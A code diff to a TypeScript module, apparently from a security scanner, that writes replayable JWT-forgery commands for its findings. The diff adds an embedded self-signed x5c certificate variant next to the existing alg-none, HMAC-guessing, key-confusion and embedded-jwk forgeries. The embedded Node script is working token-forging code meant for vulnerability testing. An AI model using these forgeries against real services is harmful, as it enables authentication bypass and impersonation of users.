@@ -1,5 +1,5 @@
 // The forging step of a finding whose proof is a token the scan made from key 1's JWT (alg none, a
-// stripped or kept signature, a guessed HMAC secret, key confusion, an embedded key, changed claims):
+// stripped or kept signature, a guessed HMAC secret, key confusion, an embedded key or certificate, changed claims):
 // a bash command that builds the same kind of token from the reader's own key 1 with a fresh `exp`,
 // so the finding's curl command still works days after the scan, when the scan's token has expired.
 
@@ -19,7 +19,9 @@ export type ForgeSigning =
   /** An HMAC with a secret the scan knows: a well-known one it guessed, the API's public key, an empty key, a key its kid SQL selects. */
   | { kind: 'hmac'; alg: string; secret: string }
   /** A fresh RSA key of the command's own whose public half rides in the header's `jwk`. */
-  | { kind: 'embedded-jwk' };
+  | { kind: 'embedded-jwk' }
+  /** A fresh RSA key of the command's own, in a self-signed certificate that rides in the header's `x5c`. */
+  | { kind: 'embedded-x5c' };
 
 export interface ForgeRecipe {
   /** The forged token's header; null keeps key 1's header as it is. */
@@ -51,9 +53,18 @@ const FORGE_SCRIPT = [
   'if(e.E==="past"){p.exp=n-86400;if("iat"in p)p.iat=n-90000;if("nbf"in p)p.nbf=n-90000}',
   'const h=e.H?JSON.parse(e.H):null;let k;',
   'if(e.S==="embedded-jwk"){k=c.generateKeyPairSync("rsa",{modulusLength:2048});h.jwk={...k.publicKey.export({format:"jwk"}),kid:h.kid}}',
+  // A self-signed certificate in DER, built by hand (Node reads certificates but does not make them):
+  // version 3, serial 1, sha256WithRSAEncryption, CN=Portcullis replay key, valid a day either side.
+  'if(e.S==="embedded-x5c"){k=c.generateKeyPairSync("rsa",{modulusLength:2048});',
+  'const L=(x)=>x<128?[x]:x<256?[129,x]:[130,x>>8,x&255],T=(t,...q)=>{const x=Buffer.concat(q);return Buffer.concat([Buffer.from([t,...L(x.length)]),x])},X=(x)=>Buffer.from(x,"hex"),',
+  'g=T(48,X("06092a864886f70d01010b0500")),m=T(48,T(49,T(48,X("0603550403"),T(12,Buffer.from("Portcullis replay key"))))),',
+  'u=(d)=>T(23,Buffer.from(new Date(d).toISOString().replace(/[-:T]/g,"").slice(2,14)+"Z")),',
+  'tb=T(48,T(160,X("020102")),T(2,X("01")),g,m,T(48,u(n*1000-864e5),u(n*1000+864e5)),m,k.publicKey.export({type:"spki",format:"der"}));',
+  'h.x5c=[T(48,tb,g,T(3,X("00"),c.sign("sha256",tb,k.privateKey))).toString("base64")]}',
   'const i=(h?b(h):h0)+"."+b(p);',
   'const s={none:()=>"",original:()=>s0,altered:()=>s0.slice(0,-4)+[...s0.slice(-4)].map((x)=>x==="A"?"B":"A").join(""),',
   'random:()=>c.randomBytes(32).toString("base64url"),"embedded-jwk":()=>c.sign("sha256",Buffer.from(i),k.privateKey).toString("base64url"),',
+  '"embedded-x5c":()=>c.sign("sha256",Buffer.from(i),k.privateKey).toString("base64url"),',
   'hmac:()=>c.createHmac(e.A,JSON.parse(e.K)).update(i).digest("base64url")}[e.S]();',
   'process.stdout.write(i+"."+s)',
 ].join('');
@@ -72,6 +83,8 @@ function signingText(s: ForgeSigning): string {
       return `${s.alg} with the secret given to the command (K)`;
     case 'embedded-jwk':
       return 'RS256 with a new RSA key whose public half is put in the header\'s "jwk"';
+    case 'embedded-x5c':
+      return 'RS256 with a new RSA key whose self-signed certificate is put in the header\'s "x5c"';
   }
 }
 
@@ -100,7 +113,7 @@ export function forgedTokenNote(ex: Exchange): string[] {
 export function forgeNotes(recipe: ForgeRecipe): string[] {
   const changes = Object.keys(recipe.claims).length ? `, with ${JSON.stringify(recipe.claims)} set` : '';
   return [
-    `Header: ${recipe.header ? JSON.stringify({ ...recipe.header, ...(recipe.signing.kind === 'embedded-jwk' ? { jwk: '(the new key)' } : {}) }) : "key 1's own"}.`,
+    `Header: ${recipe.header ? JSON.stringify({ ...recipe.header, ...(recipe.signing.kind === 'embedded-jwk' ? { jwk: '(the new key)' } : {}), ...(recipe.signing.kind === 'embedded-x5c' ? { x5c: ['(the new certificate)'] } : {}) }) : "key 1's own"}.`,
     `Claims: key 1's${changes}; "exp" ${recipe.expiry === 'fresh' ? 'one hour after the command runs (so it works whenever you replay it)' : 'one day before the command runs'}.`,
     `Signature: ${signingText(recipe.signing)}.`,
   ];
